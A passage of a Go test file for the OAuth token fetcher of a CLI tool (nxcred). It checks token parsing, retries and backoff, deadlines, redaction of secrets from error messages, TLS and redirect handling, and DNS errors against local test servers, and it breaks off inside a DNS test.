package oauth

import (
	"context"
	"errors"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/nxcred/nxcred/internal/config"
	"github.com/nxcred/nxcred/internal/oauth/oauthtest"
	"github.com/nxcred/nxcred/internal/token"
)

func TestFetch(t *testing.T) {
	t.Parallel()
	srv, client := trustedServer(t, testSecret)
	rec := &sleepRecorder{}
	tok, err := newFetcher(serverProfile(srv), testSecret, client, rec).Fetch(context.Background())
	if err != nil {
		t.Fatalf("Fetch() = %v, want a token", err)
	}
	if v := srv.Violations(); len(v) != 0 {
		t.Errorf("server violations = %q, want none", v)
	}
	if n := srv.Hits(); n != 1 {
		t.Errorf("server hits = %d, want 1", n)
	}
	if issued := srv.Issued(); len(issued) != 1 || tok.AccessToken != issued[0] {
		t.Errorf("Fetch().AccessToken = %q, want the one issued token of %q", tok.AccessToken, issued)
	}
	if tok.TokenType != "Bearer" {
		t.Errorf("Fetch().TokenType = %q, want Bearer", tok.TokenType)
	}
	if !tok.FetchedAt.Equal(start) {
		t.Errorf("Fetch().FetchedAt = %v, want the request start %v", tok.FetchedAt, start)
	}
	if want := start.Add(900 * time.Second); !tok.Expiry.Equal(want) {
		t.Errorf("Fetch().Expiry = %v, want start + expires_in = %v", tok.Expiry, want)
	}
	if !tok.Cacheable() {
		t.Errorf("Fetch() = %+v: Cacheable() = false, want true", tok)
	}
	if w := rec.Waits(); len(w) != 0 {
		t.Errorf("waits = %v, want none", w)
	}
}

func TestFetchScope(t *testing.T) {
	t.Parallel()
	srv, client := trustedServer(t, testSecret)
	srv.Scope = "service:integration other:read"
	p := serverProfile(srv)
	p.Scope = srv.Scope
	if _, err := newFetcher(p, testSecret, client, &sleepRecorder{}).Fetch(context.Background()); err != nil {
		t.Fatalf("Fetch() with scope %q = %v, want a token", p.Scope, err)
	}
	if v := srv.Violations(); len(v) != 0 {
		t.Errorf("server violations = %q, want none", v)
	}
}

// x/oauth2 percent-encodes id and secret before the Basic header (RFC 6749
// §2.3.1) and authtest decodes them: any secret must still authenticate.
func TestFetchSecretEncoding(t *testing.T) {
	t.Parallel()
	for _, secret := range []string{
		"p+q/r=s:t%41u",
		"a b&c=d?e#f",
		"%%2B%",
		"ünïcode-€",
		`quote"back\slash'`,
	} {
		t.Run(secret, func(t *testing.T) {
			t.Parallel()
			srv, client := trustedServer(t, secret)
			if _, err := newFetcher(serverProfile(srv), secret, client, &sleepRecorder{}).Fetch(context.Background()); err != nil {
				t.Errorf("Fetch() with secret %q = %v, want a token", secret, err)
			}
			if v := srv.Violations(); len(v) != 0 {
				t.Errorf("server violations = %q, want none", v)
			}
			if n := srv.Hits(); n != 1 {
				t.Errorf("server hits = %d, want 1", n)
			}
		})
	}
}

func TestFetchWrongSecret(t *testing.T) {
	t.Parallel()
	const wrong = "wr0ng+secret/with=odd:chars%41"
	tests := []struct {
		name    string
		profile func(*oauthtest.Server) *config.Profile
		label   string
		hint    func(*oauthtest.Server) string
	}{
		{"config profile", serverProfile, "profile prod", func(srv *oauthtest.Server) string {
			return "store the right secret: nxcred login --profile prod --instance acme --region eu --client-id " + testClientID + " --token-url " + srv.TokenURL()
		}},
		{"environment profile", func(srv *oauthtest.Server) *config.Profile {
			return &config.Profile{Name: config.EnvProfileName, FromEnv: true, ClientID: testClientID, TokenURL: srv.TokenURL()}
		}, "the environment profile", func(*oauthtest.Server) string {
			return "check NXCRED_CLIENT_ID and NXCRED_CLIENT_SECRET (Nexthink: Administration > API credentials)"
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			srv, client := trustedServer(t, testSecret)
			rec := &sleepRecorder{}
			_, err := newFetcher(tt.profile(srv), wrong, client, rec).Fetch(context.Background())
			fe := fetchError(t, err)
			if fe.Kind != KindSecretRejected {
				t.Errorf("Fetch() kind = %s, want KindSecretRejected (%v)", kindName(fe.Kind), err)
			}
			if fe.Status != 401 || fe.Code != "invalid_client" || fe.Retryable {
				t.Errorf("Fetch() = {Status %d, Code %q, Retryable %v}, want {401, invalid_client, false}", fe.Status, fe.Code, fe.Retryable)
			}
			if n := srv.Hits(); n != 1 {
				t.Errorf("server hits = %d, want exactly 1 (no retry, no second auth style)", n)
			}
			if v := srv.Violations(); len(v) != 0 {
				t.Errorf("server violations = %q, want none", v)
			}
			if w := rec.Waits(); len(w) != 0 {
				t.Errorf("waits = %v, want none", w)
			}
			if !strings.Contains(fe.Error(), tt.label) {
				t.Errorf("Fetch() error = %q, want it to name %q", fe.Error(), tt.label)
			}
			if want := tt.hint(srv); fe.Hint() != want {
				t.Errorf("Fetch() hint = %q, want %q", fe.Hint(), want)
			}
			for _, s := range []string{wrong, url.QueryEscape(wrong)} {
				if strings.Contains(fe.Error(), s) || strings.Contains(fe.Hint(), s) {
					t.Errorf("Fetch() error %q / hint %q contain the secret %q", fe.Error(), fe.Hint(), s)
				}
			}
		})
	}
}

// A server that echoes the secret into its error cannot make nxcred print it.
func TestFetchErrorRedactsEchoedSecret(t *testing.T) {
	t.Parallel()
	const secret = "echo+me/if=you:can%41"
	srv, client := trustedServer(t, secret)
	srv.Enqueue(
		oauthtest.Response{Status: 401, Body: `{"error":"invalid_client","error_description":"bad secret ` + secret + ` aka ` + url.QueryEscape(secret) + `"}`},
		oauthtest.Response{Status: 500, ContentType: "text/plain", Body: "crash dumping " + secret + " and " + url.QueryEscape(secret)},
	)
	for _, kind := range []Kind{KindSecretRejected, KindHTTP} {
		_, err := (&Fetcher{Profile: serverProfile(srv), Secret: secret, Client: client, Timeout: time.Minute,
			sleep: (&sleepRecorder{budget: time.Nanosecond}).sleep}).Fetch(context.Background())
		fe := fetchError(t, err)
		if fe.Kind != kind {
			t.Errorf("Fetch() kind = %s, want %s (%v)", kindName(fe.Kind), kindName(kind), err)
		}
		if !strings.Contains(fe.Error(), "[redacted]") {
			t.Errorf("Fetch() error = %q, want the echoed secret shown as [redacted]", fe.Error())
		}
		for _, s := range []string{secret, url.QueryEscape(secret)} {
			if strings.Contains(fe.Error(), s) {
				t.Errorf("Fetch() error = %q, contains the secret %q", fe.Error(), s)
			}
		}
	}
}

func TestFetchRetries(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name      string
		responses []oauthtest.Response
		hits      int
		check     func(t *testing.T, waits []time.Duration)
	}{
		{"503 then 200", []oauthtest.Response{{Status: 503, ContentType: "text/html", Body: "<h1>Service Unavailable</h1>"}}, 2,
			func(t *testing.T, waits []time.Duration) {
				if len(waits) != 1 || waits[0] < 100*time.Millisecond || waits[0] > 200*time.Millisecond {
					t.Errorf("waits = %v, want one backoff of 100ms-200ms", waits)
				}
			}},
		{"500 twice then 200", []oauthtest.Response{{Status: 500}, {Status: 502}}, 3,
			func(t *testing.T, waits []time.Duration) {
				if len(waits) != 2 || waits[1] < 200*time.Millisecond || waits[1] > 400*time.Millisecond {
					t.Errorf("waits = %v, want two, the second 200ms-400ms", waits)
				}
			}},
		{"429 with Retry-After", []oauthtest.Response{{Status: 429, Header: http.Header{"Retry-After": {"1"}}, Body: `{"error":"too_many_requests"}`}}, 2,
			func(t *testing.T, waits []time.Duration) {
				if len(waits) != 1 || waits[0] != time.Second {
					t.Errorf("waits = %v, want [1s] from Retry-After", waits)
				}
			}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			srv, client := trustedServer(t, testSecret)
			srv.Enqueue(tt.responses...)
			rec := &sleepRecorder{}
			tok, err := newFetcher(serverProfile(srv), testSecret, client, rec).Fetch(context.Background())
			if err != nil {
				t.Fatalf("Fetch() = %v, want a token after %d requests", err, tt.hits)
			}
			if issued := srv.Issued(); len(issued) != 1 || tok.AccessToken != issued[0] {
				t.Errorf("Fetch().AccessToken = %q, want the issued %q", tok.AccessToken, issued)
			}
			if n := srv.Hits(); n != tt.hits {
				t.Errorf("server hits = %d, want %d", n, tt.hits)
			}
			tt.check(t, rec.Waits())
			if late := rec.Late(); len(late) != 0 {
				t.Errorf("waits past the deadline: %q", late)
			}
		})
	}
}

// A connection reset is retried like a 5xx.
func TestFetchRetriesNetworkError(t *testing.T) {
	t.Parallel()
	srv, client := trustedServer(t, testSecret)
	var calls atomic.Int32
	base := client.Transport
	flaky := *client
	flaky.Transport = roundTripFunc(func(r *http.Request) (*http.Response, error) {
		if calls.Add(1) == 1 {
			return nil, &net.OpError{Op: "read", Net: "tcp", Err: syscall.ECONNRESET}
		}
		return base.RoundTrip(r)
	})
	rec := &sleepRecorder{}
	if _, err := newFetcher(serverProfile(srv), testSecret, &flaky, rec).Fetch(context.Background()); err != nil {
		t.Fatalf("Fetch() after a connection reset = %v, want a token", err)
	}
	if n, h := calls.Load(), srv.Hits(); n != 2 || h != 1 {
		t.Errorf("transport calls, server hits = %d, %d; want 2, 1", n, h)
	}
	if w := rec.Waits(); len(w) != 1 {
		t.Errorf("waits = %v, want one", w)
	}
}

// A Retry-After longer than what is left of the deadline is not waited for.
func TestFetchRetryAfterPastDeadline(t *testing.T) {
	t.Parallel()
	srv, client := trustedServer(t, testSecret)
	srv.Enqueue(oauthtest.Response{Status: 429, Header: http.Header{"Retry-After": {"5"}}})
	rec := &sleepRecorder{}
	f := newFetcher(serverProfile(srv), testSecret, client, rec)
	f.Timeout = 2 * time.Second
	_, err := f.Fetch(context.Background())
	fe := fetchError(t, err)
	if fe.Kind != KindHTTP || fe.Status != 429 || fe.RetryAfter != 5*time.Second {
		t.Errorf("Fetch() = {%s, %d, RetryAfter %s}, want {KindHTTP, 429, 5s} (%v)", kindName(fe.Kind), fe.Status, fe.RetryAfter, err)
	}
	if !strings.Contains(fe.Error(), "rate limiting") {
		t.Errorf("Fetch() error = %q, want it to say rate limiting", fe.Error())
	}
	if n := srv.Hits(); n != 1 {
		t.Errorf("server hits = %d, want 1", n)
	}
	if w := rec.Waits(); len(w) != 0 {
		t.Errorf("waits = %v, want none: 5s does not fit in a 2s deadline", w)
	}
}

// When the deadline passes during a retry, the error is the failure that
// was retried (here the 503), not "timed out": what the user learns must not
// depend on how far the last attempt got before the deadline.
func TestFetchDeadlineDuringRetry(t *testing.T) {
	t.Parallel()
	srv, client := trustedServer(t, testSecret)
	srv.Enqueue(
		oauthtest.Response{Status: 503, ContentType: "text/plain", Body: "down"},
		oauthtest.Response{Status: 503, ContentType: "text/plain", Body: "down", Delay: time.Hour},
	)
	ctx := newDeadlineCtx()
	var calls atomic.Int32
	base := client.Transport
	cut := *client
	cut.Transport = roundTripFunc(func(r *http.Request) (*http.Response, error) {
		if calls.Add(1) == 2 {
			ctx.fire() // the deadline passes while the retry waits for its answer
		}
		return base.RoundTrip(r)
	})
	rec := &sleepRecorder{}
	f := newFetcher(serverProfile(srv), testSecret, &cut, rec)
	f.Timeout = time.Hour // only the test's deadline counts
	_, err := f.Fetch(ctx)
	fe := fetchError(t, err)
	if fe.Kind != KindHTTP || fe.Status != 503 || !strings.Contains(fe.Error(), `answered 503 Service Unavailable: "down"`) {
		t.Errorf("Fetch() = {%s, %d, %q}, want the 503 that was retried", kindName(fe.Kind), fe.Status, fe.Error())
	}
	if n := calls.Load(); n != 2 {
		t.Errorf("requests = %d, want 2: the first and the retry the deadline cut short", n)
	}
	if w := rec.Waits(); len(w) != 1 {
		t.Errorf("waits = %v, want one", w)
	}
}

// A deadline that cuts short the first attempt is a timeout: there is no
// other failure to report.
func TestFetchDeadlineDuringFirstAttempt(t *testing.T) {
	t.Parallel()
	srv, client := trustedServer(t, testSecret)
	srv.SetDelay(time.Hour)
	ctx := newDeadlineCtx()
	base := client.Transport
	cut := *client
	cut.Transport = roundTripFunc(func(r *http.Request) (*http.Response, error) {
		ctx.fire()
		return base.RoundTrip(r)
	})
	f := newFetcher(serverProfile(srv), testSecret, &cut, &sleepRecorder{})
	f.Timeout = time.Hour
	_, err := f.Fetch(ctx)
	if fe := fetchError(t, err); fe.Kind != KindTimeout {
		t.Errorf("Fetch() kind = %s, want KindTimeout (%v)", kindName(fe.Kind), err)
	}
}

func TestFetchNotRetried(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name string
		resp oauthtest.Response
		kind Kind
		msg  string
		hint string
	}{
		{"invalid_scope", oauthtest.Response{Status: 400, Body: `{"error":"invalid_scope","error_description":"The requested scope is invalid."}`},
			KindOAuthError, `nexthink refused scope "service:integration" for profile prod (invalid_scope: The requested scope is invalid.)`, "service:integration"},
		{"invalid_grant", oauthtest.Response{Status: 400, Body: `{"error":"unauthorized_client"}`},
			KindOAuthError, "refused the request for profile prod (unauthorized_client)", "Administration > API credentials"},
		{"401 without body", oauthtest.Response{Status: 401, ContentType: "text/plain"},
			KindSecretRejected, "(401 Unauthorized)", "nxcred login --profile prod"},
		{"403 html", oauthtest.Response{Status: 403, ContentType: "text/html", Body: "<h1>Forbidden</h1>"},
			KindHTTP, `answered 403 Forbidden: "<h1>Forbidden</h1>"`, "check the token URL"},
		{"404", oauthtest.Response{Status: 404, ContentType: "text/plain"},
			KindHTTP, "answered 404 Not Found: (empty body)", "check the token URL"},
		{"200 with an error field", oauthtest.Response{Status: 200, Body: `{"error":"invalid_client"}`},
			KindSecretRejected, "rejected the client id or secret of profile prod (invalid_client)", "nxcred login"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			srv, client := trustedServer(t, testSecret)
			srv.Enqueue(tt.resp)
			rec := &sleepRecorder{}
			_, err := newFetcher(serverProfile(srv), testSecret, client, rec).Fetch(context.Background())
			fe := fetchError(t, err)
			if fe.Kind != tt.kind || fe.Retryable {
				t.Errorf("Fetch() = {%s, Retryable %v}, want {%s, false} (%v)", kindName(fe.Kind), fe.Retryable, kindName(tt.kind), err)
			}
			if !strings.Contains(fe.Error(), tt.msg) {
				t.Errorf("Fetch() error = %q, want it to contain %q", fe.Error(), tt.msg)
			}
			if !strings.Contains(fe.Hint(), tt.hint) {
				t.Errorf("Fetch() hint = %q, want it to contain %q", fe.Hint(), tt.hint)
			}
			if n := srv.Hits(); n != 1 {
				t.Errorf("server hits = %d, want 1 (not retried)", n)
			}
			if w := rec.Waits(); len(w) != 0 {
				t.Errorf("waits = %v, want none", w)
			}
		})
	}
}

// A server failing forever: Fetch retries on the backoff schedule and stops
// within its deadline with the server's error, not a deadline error. The
// deadline is the recorder's virtual 2 s, spent only by the waits; the real
// one is far away, so how long loopback takes to answer under load changes
// nothing.
func TestFetchGivesUp(t *testing.T) {
	t.Parallel()
	srv, client := trustedServer(t, testSecret)
	for range 50 {
		srv.Enqueue(oauthtest.Response{Status: 500, ContentType: "text/plain", Body: "internal error"})
	}
	const timeout = 2 * time.Second
	rec := &sleepRecorder{budget: timeout}
	f := newFetcher(serverProfile(srv), testSecret, client, rec)
	f.Timeout = time.Minute
	_, err := f.Fetch(context.Background())
	fe := fetchError(t, err)
	if fe.Kind != KindHTTP || fe.Status != 500 || !strings.Contains(fe.Error(), `answered 500 Internal Server Error: "internal error"`) {
		t.Errorf("Fetch() = {%s, %d, %q}, want the server's 500", kindName(fe.Kind), fe.Status, fe.Error())
	}
	// Waits of 100-200, 200-400, 400-800, 800-1600, 1000-2000 ms: the 2 s
	// budget is spent after the 4th or 5th request.
	hits := srv.Hits()
	if hits < 4 || hits > 5 {
		t.Errorf("server hits = %d, want 4 or 5 in a 2s deadline", hits)
	}
	waits := rec.Waits()
	if len(waits) < hits-1 || len(waits) > hits {
		t.Errorf("waits = %v for %d requests, want one per failed request", waits, hits)
	}
	var slept time.Duration
	for i, w := range waits {
		d := min(200*time.Millisecond<<i, 2*time.Second)
		if w < d/2 || w > d {
			t.Errorf("wait #%d = %s, want %s-%s", i+1, w, d/2, d)
		}
		if i < len(waits)-1 {
			slept += w
		}
	}
	if slept > timeout {
		t.Errorf("slept %s in total, want at most the %s deadline", slept, timeout)
	}
	if late := rec.Late(); len(late) != 0 {
		t.Errorf("waits past the deadline: %q", late)
	}
}

const badToken = "at-9f8e7d6c5b4a"

func TestFetchBadResponse(t *testing.T) {
	t.Parallel()
	tok := func(fields string) oauthtest.Response {
		return oauthtest.Response{Status: 200, Body: `{"access_token":"` + badToken + `","token_type":"Bearer"` + fields + `}`}
	}
	tests := []struct {
		name string
		resp oauthtest.Response
		msg  string
	}{
		{"html", oauthtest.Response{Status: 200, ContentType: "text/html; charset=utf-8",
			Body: "<html><head><title>Proxy login</title></head>\r\n\t<body>" + strings.Repeat("x", 5000)},
			`answered 200 with text/html; charset=utf-8, not a token: "<html><head><title>Proxy login</title></head> <body>xxx`},
		{"plain text", oauthtest.Response{Status: 200, ContentType: "text/plain", Body: "hello"},
			`answered 200 with text/plain, not a token: "hello"`},
		{"no content type, not json", oauthtest.Response{Status: 200, ContentType: "application/octet-stream", Body: "\x00\x01binary"},
			`not a token: "binary"`},
		{"json without access_token", oauthtest.Response{Status: 200, Body: `{"token_type":"Bearer","expires_in":900}`},
			"returned no access_token"},
		{"empty json", oauthtest.Response{Status: 200, Body: `{}`}, "returned no access_token"},
		{"token_type mac", oauthtest.Response{Status: 200, Body: `{"access_token":"` + badToken + `","token_type":"mac","expires_in":900}`},
			`returned token_type "mac", not Bearer`},
		{"token_type missing", oauthtest.Response{Status: 200, Body: `{"access_token":"` + badToken + `","expires_in":900}`},
			`returned token_type "", not Bearer`},
		{"token with space", oauthtest.Response{Status: 200, Body: `{"access_token":"at 9f","token_type":"Bearer","expires_in":900}`},
			"cannot be a bearer token"},
		{"token with newline", oauthtest.Response{Status: 200, Body: `{"access_token":"at\n9f","token_type":"Bearer","expires_in":900}`},
			"cannot be a bearer token"},
		{"token with escape", oauthtest.Response{Status: 200, Body: `{"access_token":"at\u001b[2J","token_type":"Bearer","expires_in":900}`},
			"cannot be a bearer token"},
		{"token not ascii", oauthtest.Response{Status: 200, Body: `{"access_token":"atü","token_type":"Bearer","expires_in":900}`},
			"cannot be a bearer token"},
		{"token too long", oauthtest.Response{Status: 200, Body: `{"access_token":"` + strings.Repeat("a", 16<<10+1) + `","token_type":"Bearer","expires_in":900}`},
			"cannot be a bearer token"},
		{"expires_in negative", tok(`,"expires_in":-5`), "expires_in -5"},
		{"expires_in zero", tok(`,"expires_in":0`), "expires_in 0"},
		{"expires_in fractional", tok(`,"expires_in":900.5`), "not a token"},
		{"expires_in over 24h", tok(`,"expires_in":86401`), "expires_in 86401"},
		{"expires_in huge", tok(`,"expires_in":99999999999`), "expires_in"},
		{"expires_in abc", tok(`,"expires_in":"abc"`), "not a token"},
		{"expires_in negative string", tok(`,"expires_in":"-900"`), `expires_in -900`},
		{"expires_in bool", tok(`,"expires_in":true`), "not a token"},
		{"expires_in empty string", tok(`,"expires_in":""`), "not a token"},
		// x/oauth2 reads expires_in as an integer and refuses 9e2 itself.
		{"expires_in exponent", tok(`,"expires_in":9e2`), "not a token"},
	}
	// x/oauth2 cannot parse these bodies, and the excerpt then shows the
	// access token (TestFetchUnparsedBodyShowsToken).
	tokenShown := map[string]bool{"expires_in fractional": true, "expires_in abc": true, "expires_in bool": true, "expires_in empty string": true, "expires_in exponent": true}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			srv, client := trustedServer(t, testSecret)
			srv.Enqueue(tt.resp)
			rec := &sleepRecorder{}
			got, err := newFetcher(serverProfile(srv), testSecret, client, rec).Fetch(context.Background())
			if err == nil {
				t.Fatalf("Fetch() = %+v, want an error", got)
			}
			fe := fetchError(t, err)
			if fe.Kind != KindBadResponse || fe.Retryable {
				t.Errorf("Fetch() = {%s, Retryable %v}, want {KindBadResponse, false} (%v)", kindName(fe.Kind), fe.Retryable, err)
			}
			if !strings.Contains(fe.Error(), tt.msg) {
				t.Errorf("Fetch() error = %q, want it to contain %q", fe.Error(), tt.msg)
			}
			if !tokenShown[tt.name] && strings.Contains(fe.Error(), badToken) {
				t.Errorf("Fetch() error = %q, contains the access token", fe.Error())
			}
			if len(fe.Error()) > 400 {
				t.Errorf("Fetch() error is %d bytes, want a short excerpt: %q", len(fe.Error()), fe.Error())
			}
			if !strings.Contains(fe.Hint(), srv.TokenURL()) {
				t.Errorf("Fetch() hint = %q, want it to name the token URL", fe.Hint())
			}
			if n := srv.Hits(); n != 1 {
				t.Errorf("server hits = %d, want 1 (not retried)", n)
			}
			if w := rec.Waits(); len(w) != 0 {
				t.Errorf("waits = %v, want none", w)
			}
		})
	}
}

func TestFetchExpiry(t *testing.T) {
	t.Parallel()
	ok := func(fields string) oauthtest.Response {
		return oauthtest.Response{Status: 200, Body: `{"access_token":"` + badToken + `","token_type":"Bearer"` + fields + `}`}
	}
	tests := []struct {
		name      string
		resp      oauthtest.Response
		expiry    time.Time
		cacheable bool
	}{
		{"number", ok(`,"expires_in":900`), start.Add(900 * time.Second), true},
		{"string", ok(`,"expires_in":"900"`), start.Add(900 * time.Second), true},
		{"one second", ok(`,"expires_in":1`), start.Add(time.Second), false},
		{"a day", ok(`,"expires_in":86400`), start.Add(24 * time.Hour), true},
		// Missing: served for this call only, never cached.
		{"missing", ok(``), start.Add(token.Margin), false},
		{"null", ok(`,"expires_in":null`), start.Add(token.Margin), false},
		{"lower-case bearer", oauthtest.Response{Status: 200, Body: `{"access_token":"` + badToken + `","token_type":"bearer","expires_in":900}`},
			start.Add(900 * time.Second), true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			srv, client := trustedServer(t, testSecret)
			srv.Enqueue(tt.resp)
			f := newFetcher(serverProfile(srv), testSecret, client, &sleepRecorder{})
			var warnings []string
			f.Warn = func(m string) { warnings = append(warnings, m) }
			got, err := f.Fetch(context.Background())
			if err != nil {
				t.Fatalf("Fetch() = %v, want a token", err)
			}
			// A token nxcred will not cache is said once, with why.
			switch {
			case tt.cacheable && len(warnings) != 0:
				t.Errorf("Fetch() warned %q, want nothing for a token that is cached", warnings)
			case !tt.cacheable && (len(warnings) != 1 || !strings.Contains(warnings[0], "not cache") || !strings.Contains(warnings[0], "every call will make a token request")):
				t.Errorf("Fetch() warnings = %q, want one saying the token is not cached and what that costs", warnings)
			case !tt.cacheable && tt.expiry != start.Add(token.Margin) && !strings.Contains(warnings[0], "lives 1s"):
				t.Errorf("Fetch() warning = %q, want it to name the lifetime (1s)", warnings[0])
			case tt.name == "missing" && !strings.Contains(warnings[0], "no expires_in"):
				t.Errorf("Fetch() warning = %q, want it to say expires_in is missing", warnings[0])
			}
			if got.AccessToken != badToken || got.TokenType != "Bearer" {
				t.Errorf("Fetch() = %q %q, want %q Bearer", got.AccessToken, got.TokenType, badToken)
			}
			if !got.Expiry.Equal(tt.expiry) {
				t.Errorf("Fetch().Expiry = start%+v, want start%+v", got.Expiry.Sub(start), tt.expiry.Sub(start))
			}
			if got.Cacheable() != tt.cacheable {
				t.Errorf("Fetch().Cacheable() = %v, want %v", got.Cacheable(), tt.cacheable)
			}
		})
	}
}

// A JWT's exp claim caps the expiry when it is earlier than expires_in.
func TestFetchJWTExpiry(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name     string
		lifetime int // expires_in; -1 omits it
		exp      time.Duration
		// want is the expiry after the request start, ±1 s for the
		// whole-second exp claim.
		want time.Duration
	}{
		{"exp earlier caps", 900, 300 * time.Second, 300 * time.Second},
		{"exp later does not extend", 900, time.Hour, 900 * time.Second},
		{"exp in the past is a clock problem, ignored", 900, -time.Hour, 900 * time.Second},
		{"exp without expires_in", -1, 600 * time.Second, 600 * time.Second},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			srv, client := trustedServer(t, testSecret)
			srv.SetLifetime(tt.lifetime)
			srv.SetJWT(true, tt.exp)
			now := time.Now()
			f := newFetcher(serverProfile(srv), testSecret, client, &sleepRecorder{})
			f.Now = fixedNow(now)
			got, err := f.Fetch(context.Background())
			if err != nil {
				t.Fatalf("Fetch() = %v, want a token", err)
			}
			if strings.Count(got.AccessToken, ".") != 2 {
				t.Fatalf("Fetch().AccessToken = %q, want a JWT", got.AccessToken)
			}
			if d := got.Expiry.Sub(now); d < tt.want-time.Second || d > tt.want+time.Second {
				t.Errorf("Fetch().Expiry = start%+v, want start+%s", d, tt.want)
			}
		})
	}
}

func TestFetchTimeout(t *testing.T) {
	t.Parallel()
	srv, client := trustedServer(t, testSecret)
	srv.SetDelay(time.Hour) // the handler stops when the client goes
	rec := &sleepRecorder{}
	f := newFetcher(serverProfile(srv), testSecret, client, rec)
	f.Timeout = 200 * time.Millisecond
	t0 := time.Now()
	_, err := f.Fetch(context.Background())
	took := time.Since(t0)
	fe := fetchError(t, err)
	if fe.Kind != KindTimeout {
		t.Errorf("Fetch() kind = %s, want KindTimeout (%v)", kindName(fe.Kind), err)
	}
	if want := "did not answer within 200ms (NXCRED_TIMEOUT) for profile prod"; !strings.Contains(fe.Error(), want) {
		t.Errorf("Fetch() error = %q, want it to contain %q", fe.Error(), want)
	}
	if !strings.Contains(fe.Hint(), "NXCRED_TIMEOUT") {
		t.Errorf("Fetch() hint = %q, want it to name NXCRED_TIMEOUT", fe.Hint())
	}
	// A loaded machine may add seconds; only a deadline that does not
	// hold waits for the server's hour.
	if took > time.Minute {
		t.Errorf("Fetch() took %s, want about the 200ms deadline", took)
	}
	if w := rec.Waits(); len(w) != 0 {
		t.Errorf("waits = %v, want none", w)
	}
}

func TestFetchUntrustedCertificate(t *testing.T) {
	t.Parallel()
	srv := oauthtest.New(testClientID, testSecret)
	t.Cleanup(srv.Close)
	client, err := NewHTTPClient("")
	if err != nil {
		t.Fatalf("NewHTTPClient(\"\") = %v", err)
	}
	rec := &sleepRecorder{}
	_, err = newFetcher(serverProfile(srv), testSecret, client, rec).Fetch(context.Background())
	fe := fetchError(t, err)
	if fe.Kind != KindTLS || fe.Retryable {
		t.Errorf("Fetch() = {%s, Retryable %v}, want {KindTLS, false} (%v)", kindName(fe.Kind), fe.Retryable, err)
	}
	if !strings.Contains(fe.Error(), "TLS failure talking to "+strings.TrimPrefix(srv.URL(), "https://")) || !strings.Contains(fe.Error(), "certificate") {
		t.Errorf("Fetch() error = %q, want a TLS failure naming the host and the certificate", fe.Error())
	}
	if !strings.Contains(fe.Hint(), "SSL_CERT_FILE") {
		t.Errorf("Fetch() hint = %q, want it to name SSL_CERT_FILE", fe.Hint())
	}
	if n := srv.Hits(); n != 0 {
		t.Errorf("server hits = %d, want 0", n)
	}
	if w := rec.Waits(); len(w) != 0 {
		t.Errorf("waits = %v, want none", w)
	}
}

func TestFetchRedirect(t *testing.T) {
	t.Parallel()
	second := oauthtest.NewPlain(testClientID, testSecret)
	t.Cleanup(second.Close)
	redirector := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, second.TokenURL(), http.StatusTemporaryRedirect)
	}))
	t.Cleanup(redirector.Close)
	client, err := NewHTTPClient("")
	if err != nil {
		t.Fatal(err)
	}
	p := &config.Profile{Name: "prod", ClientID: testClientID, TokenURL: redirector.URL + oauthtest.TokenPath}
	rec := &sleepRecorder{}
	_, err = newFetcher(p, testSecret, client, rec).Fetch(context.Background())
	fe := fetchError(t, err)
	if !errors.Is(err, ErrRedirect) {
		t.Errorf("Fetch() = %v, want errors.Is ErrRedirect", err)
	}
	if !strings.Contains(fe.Error(), "redirect") || !strings.Contains(fe.Error(), second.TokenURL()) {
		t.Errorf("Fetch() error = %q, want it to mention the redirect to %s", fe.Error(), second.TokenURL())
	}
	if n := second.Hits(); n != 0 {
		t.Errorf("redirect target hits = %d, want 0", n)
	}
	if w := rec.Waits(); len(w) != 0 {
		t.Errorf("waits = %v, want none", w)
	}
}

func TestFetchConnectionRefused(t *testing.T) {
	t.Parallel()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := l.Addr().String()
	l.Close()
	client, err := NewHTTPClient("")
	if err != nil {
		t.Fatal(err)
	}
	p := &config.Profile{Name: "prod", ClientID: testClientID, TokenURL: "http://" + addr + oauthtest.TokenPath}
	rec := &sleepRecorder{budget: 2 * time.Second}
	f := newFetcher(p, testSecret, client, rec)
	f.Timeout = 2 * time.Second
	_, err = f.Fetch(context.Background())
	fe := fetchError(t, err)
	if fe.Kind != KindNetwork || !fe.Retryable {
		t.Errorf("Fetch() = {%s, Retryable %v}, want {KindNetwork, true} (%v)", kindName(fe.Kind), fe.Retryable, err)
	}
	if want := "cannot reach token endpoint " + addr; !strings.Contains(fe.Error(), want) || !strings.Contains(fe.Error(), "connection refused") {
		t.Errorf("Fetch() error = %q, want %q ... connection refused", fe.Error(), want)
	}
	if w := rec.Waits(); len(w) < 3 {
		t.Errorf("waits = %v, want the network error retried", w)
	}
}

func TestFetchDNS(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name      string
		dns       *net.DNSError
		tokenURL  string
		retried   bool
		msg, hint string
	}{
		{"not found", &net.DNSError{IsNotFound: true, Name: "acme-login.eu.nexthink.cloud", Err: "no such host"}, "", false,
			"cannot resolve acme-login.eu.nexthink.cloud: no such host",
			"check the instance (acme) and region (eu) of profile prod"},
		{"not found, token URL", &net.DNSError{IsNotFound: true, Name: "login.example.invalid", Err: "no such host"}, "https://login.example.invalid/token", false,
			"cannot resolve login.example.invalid: no such host",
			"check the token URL of profile prod (https://login.example.invalid/token)"},
		{"temporary", &net.DNSError{IsTemporary: true, Name: "acme-login.eu.nexthink.cloud", Err: "server misbehaving"}, "", true,
			"cannot resolve acme-login.eu.nexthink.cloud: server misbehaving", "check the network"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			var calls atomic.Int32
			client := &http.Client{Transport: roundTripFunc(func(r *http.Request) (*http.Response, error) {
				calls.Add(1)
